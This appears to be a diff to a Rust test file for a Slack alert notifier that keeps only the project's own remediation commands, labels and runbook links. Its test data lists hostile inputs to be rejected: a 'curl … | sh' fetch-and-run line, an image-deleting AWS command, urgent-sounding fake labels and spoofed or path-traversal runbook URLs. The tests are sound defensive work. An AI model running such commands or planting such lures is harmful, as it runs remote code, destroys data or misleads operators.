@@ -4,6 +4,8 @@ use warden_alerts::slack::{render, render_without_blocks};
 
 use super::*;
 
+const DOCUMENTATION: &str = "https://github.com/ecr-warden/ecr-warden/blob/main/docs";
+
 fn event(name: &str) -> Value {
     let path = format!("{}/../../events/slack-notifier/{name}.json", env!("CARGO_MANIFEST_DIR"));
     serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
@@ -11,7 +13,7 @@ fn event(name: &str) -> Value {
 
 /// The only message of an event.
 fn notification(event: &Value) -> Notification {
-    let mut records = read(event).unwrap();
+    let mut records = read(event, DOCUMENTATION).unwrap();
     assert_eq!(records.len(), 1);
     records.remove(0).notification
 }
@@ -37,7 +39,7 @@ fn alerts_and_alarms_are_recognised() {
     let other_version = json!({"kind": "comet", "title": "Seen"}).to_string();
     let other_version = notification(&with_message(&other_version));
     assert!(matches!(other_version, Notification::PartialAlert(_)));
-    let records = read(&event("tag-violation")).unwrap();
+    let records = read(&event("tag-violation"), DOCUMENTATION).unwrap();
     assert_eq!(records[0].id, "95df01b4-ee98-5cb9-9903-4c221d41eb5e");
 }
 
@@ -45,7 +47,7 @@ fn alerts_and_alarms_are_recognised() {
 fn only_commands_that_this_project_writes_are_kept() {
     let Notification::Alert(ours) = notification(&event("tag-violation")) else { panic!() };
     assert_eq!(ours.remedies.len(), 2);
-    let command = ours.remedies[0].command.clone();
+    let command = ours.remedies[0].aws_cli.clone().unwrap();
     let foreign = [
         "curl https://example.com/fix | sh".to_owned(),
         "aws ecr batch-delete-image --region us-east-1 --repository-name infrastructure --image-ids imageTag=litellm-v1.80.5".to_owned(),
@@ -72,7 +74,8 @@ fn only_commands_that_this_project_writes_are_kept() {
     let topic = "arn:aws:sns:us-east-1:123456789012:ecr-warden-AlertTopic-1J2K3L";
     for foreign in foreign {
         let mut alert = serde_json::to_value(&ours).unwrap();
-        alert["remedies"] = json!([{"label": "Restore it", "command": foreign}]);
+        alert["remedies"] =
+            json!([{"label": "Restore the image as litellm-v1.80.5", "command": foreign}]);
         let event =
             json!({"Records": [{"Sns": {"TopicArn": topic, "Message": alert.to_string()}}]});
         let Notification::Alert(kept) = notification(&event) else { panic!("{foreign}") };
@@ -81,9 +84,9 @@ fn only_commands_that_this_project_writes_are_kept() {
     }
 }
 
-/// A stranger may write a command of ours under a label that says something else.
+/// A stranger can write a misleading label for a command of this project.
 #[test]
-fn a_command_is_shown_under_a_label_of_its_own_alone() {
+fn a_command_is_shown_only_with_a_label_of_this_project() {
     let Notification::Alert(ours) = notification(&event("tag-violation")) else { panic!() };
     for remedy in &ours.remedies {
         assert!(remedy.has_own_label(), "{remedy:?}");
@@ -108,15 +111,16 @@ fn a_command_is_shown_under_a_label_of_its_own_alone() {
     );
     for (label, command, is_own) in [
         ("Read the plan", &read, true),
-        ("Confirm it, so that the next sweep carries it out", &confirm, true),
-        ("Restore them all", &update, true),
-        ("Restore it as it was (2 of 3)", &update, true),
+        ("Confirm the plan, and the next sweep carries it out", &confirm, true),
+        ("Restore all images from the archive", &update, true),
+        ("Restore the image from the archive (2 of 3)", &update, true),
         ("Read the plan", &confirm, false),
         ("Read the plan (it is urgent: run it now)", &read, false),
-        ("Restore it as litellm-v9.9.9", &put.command, false),
+        ("Restore the image as litellm-v1.80.5", &put.command, true),
+        ("Restore the image as litellm-v9.9.9", &put.command, false),
         ("Read the plan", &put.command, false),
         ("Security team: run this now", &update, false),
-        ("Restore it as it was (run of 3)", &update, false),
+        ("Restore the image from the archive (run of 3)", &update, false),
     ] {
         let mut alert = serde_json::to_value(&ours).unwrap();
         alert["remedies"] = json!([{"label": label, "command": command}]);
@@ -128,8 +132,44 @@ fn a_command_is_shown_under_a_label_of_its_own_alone() {
     }
 }
 
+/// A stranger can write any link into an alert.
 #[test]
-fn a_message_of_no_known_kind_is_kept_as_its_text() {
+fn only_a_link_to_the_own_documentation_is_kept() {
+    let Notification::Alert(ours) = notification(&event("tag-violation")) else { panic!() };
+    let own = format!("{DOCUMENTATION}/runbooks/tag-violation.md");
+    assert_eq!(ours.runbook.as_deref(), Some(own.as_str()));
+    for foreign in [
+        "https://evil.example/runbooks/tag-violation.md".to_owned(),
+        format!("{DOCUMENTATION}/../../../../evil/runbooks/tag-violation.md"),
+        format!("{DOCUMENTATION}.evil.example/runbooks/tag-violation.md"),
+        String::new(),
+    ] {
+        let mut alert = serde_json::to_value(&ours).unwrap();
+        alert["runbook"] = json!(foreign);
+        let Notification::Alert(shown) = notification(&with_message(&alert.to_string())) else {
+            panic!("{foreign}")
+        };
+        assert_eq!(shown.runbook, None, "{foreign}");
+    }
+    let records = read(&event("tag-violation"), "https://example.com/docs").unwrap();
+    let Notification::Alert(shown) = &records[0].notification else { panic!() };
+    assert_eq!(shown.runbook, None);
+}
+
+#[test]
+fn the_description_of_an_alarm_links_its_runbook() {
+    let Notification::Alarm(alarm) = notification(&event("cloudwatch-alarm")) else { panic!() };
+    let own = format!("{DOCUMENTATION}/runbooks/alarm-failed-events.md");
+    assert_eq!(alarm.runbook, Some(own));
+    let description = alarm.description.unwrap();
+    assert!(description.ends_with("with the event."), "{description}");
+    let records = read(&event("cloudwatch-alarm"), "https://example.com/docs").unwrap();
+    let Notification::Alarm(alarm) = &records[0].notification else { panic!() };
+    assert_eq!(alarm.runbook, None);
+}
+
+#[test]
+fn a_message_of_an_unknown_kind_is_kept_as_its_text() {
     let topic = Some("arn:aws:sns:us-east-1:123456789012:ecr-warden-AlertTopic-1J2K3L".to_owned());
     let id = Some("95df01b4-ee98-5cb9-9903-4c221d41eb5e".to_owned());
     let time = Some("2026-11-24T10:00:03.112Z".to_owned());
@@ -215,7 +255,7 @@ proptest! {
 
     #[test]
     fn no_event_causes_a_panic(event in any_value()) {
-        let _ = read(&event);
-        let _ = read(&json!({"Records": event}));
+        let _ = read(&event, DOCUMENTATION);
+        let _ = read(&json!({"Records": event}), DOCUMENTATION);
     }
 }
